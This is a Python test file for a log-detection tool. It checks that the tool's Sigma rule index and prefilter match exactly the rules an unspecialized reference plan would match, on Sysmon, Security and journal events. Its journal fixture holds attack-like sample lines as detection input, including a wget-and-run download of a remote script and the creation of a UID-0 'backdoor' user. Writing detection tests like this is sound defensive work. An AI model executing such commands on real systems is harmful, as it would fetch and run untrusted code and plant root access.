"""The index, the specialized plans and the prefilter change nothing: on real events, the rule
set gives exactly the rules whose unspecialized plan holds among those its log source admits."""

from __future__ import annotations

from pathlib import Path

import pytest

from eventsweep.detect import RuleSet
from eventsweep.detect.match import Test, build
from eventsweep.detect.view import View
from eventsweep.model import Event
from tests.testbed.run import sweep
from tests.testbed.sigma import evtx_corpus

SYSMON = ("omerbenamram__evtx/samples/sysmon.evtx",)


Admitted = dict[tuple[str, str, int | None], list[tuple[str, Test]]]


def reference(rules: RuleSet, event: Event, admitted: Admitted) -> set[str]:
    """The rules whose whole plan (built as it is, unspecialized) holds for the event."""
    key = (event.log, event.source, event.event_id)
    if key not in admitted:
        admitted[key] = [
            (rule.path, build(variant.plan))
            for rule in rules.rules
            for variant in rule.variants
            if variant.admits(*key)
        ]
    view = View(event)
    return {path for path, test in admitted[key] if test(view)}


@pytest.fixture(scope="module")
def busy_events() -> list[Event]:
    """Sysmon events (process creation: the prefiltered bucket) and Security ones."""
    names = [*SYSMON, "synthetic/synthetic_big_security.evtx"]
    events, _ = sweep([str(evtx_corpus() / name) for name in names])
    sysmon = [event for event in events if "Sysmon" in event.log]
    security = [event for event in events if event.log == "Security"][::20]
    assert len(sysmon) > 300 and len(security) > 1000
    return sysmon + security


def test_the_index_is_exact(sigma_rules: RuleSet, busy_events: list[Event]) -> None:
    admitted: Admitted = {}
    fresh = RuleSet(sigma_rules.rules, ())
    found = {id(event): {d.path for d in fresh.match(event)} for event in busy_events}
    mismatches = [
        (event.event_id, event.record_id)
        for event in busy_events
        if found[id(event)] != reference(fresh, event, admitted)
    ]
    assert mismatches == []
    assert sum(bool(paths) for paths in found.values()) > 50


def test_demo_process_creation_is_exact(sigma_rules: RuleSet, tmp_path: Path) -> None:
    from eventsweep.demo import generate

    files = generate(tmp_path, hosts=2, days=2, end="2024-01-20T00:00:00Z")
    events, _ = sweep([str(path) for path in files if path.name == "Security.evtx"])
    created = [event for event in events if event.event_id == 4688]
    assert len(created) > 100
    admitted: Admitted = {}
    for event in created:
        assert {d.path for d in sigma_rules.match(event)} == reference(sigma_rules, event, admitted)


JOURNAL_TEXTS = (
    ("sshd", "error: key_from_blob: incorrect signature from 198.51.100.7"),
    ("sshd", "Failed password for invalid user admin from 198.51.100.7 port 4711 ssh2"),
    ("sshd", "Accepted publickey for alice from 10.0.0.8 port 50022 ssh2"),
    ("useradd", "new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash"),
    ("bash", "wget http://203.0.113.7/x.sh; chmod +x x.sh; ./x.sh"),
    ("nginx", "*** stack smashing detected ***: terminated"),
    ("systemd", "Stopping firewalld - dynamic firewall daemon..."),
    ("CRON", "(root) REPLACE (root)"),
    ("CRON", "(root) CMD (run-parts /etc/cron.hourly)"),
    ("sudo", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"),
    ("kernel", "EXT4-fs (vda1): mounted filesystem with ordered data mode."),
)


def test_journal_keyword_buckets_are_prefiltered_and_exact(
    sigma_rules: RuleSet, tmp_path: Path
) -> None:
    """A journal's buckets hold ~20 rules, most of them keywords: prefiltered (PREFILTER), and
    still exactly the rules whose whole plan holds, for entries of a real journal."""
    from eventsweep.detect.rules import PREFILTER
    from tests.testbed.journals import Entry, make_journal

    start = 1_764_000_000_000_000
    entries = [
        Entry(start + n, text, identifier=ident, comm=ident.lower())
        for n, (ident, text) in enumerate(JOURNAL_TEXTS * 3)
    ]
    make_journal(tmp_path / "journal", entries)
    events, outcomes = sweep([f"journal:{tmp_path / 'journal'}"])
    assert [o.status for o in outcomes] == ["ok"] and len(events) == len(entries)
    fresh, admitted = RuleSet(sigma_rules.rules, ()), Admitted()
    found = [{d.path for d in fresh.match(event)} for event in events]
    assert found == [reference(fresh, event, admitted) for event in events]
    assert sum(map(bool, found)) >= 6  # some rules do fire
    sshd = fresh._candidates[("journal", "sshd", None)]
    assert sshd.prefilter is not None and len(sshd.entries) >= PREFILTER
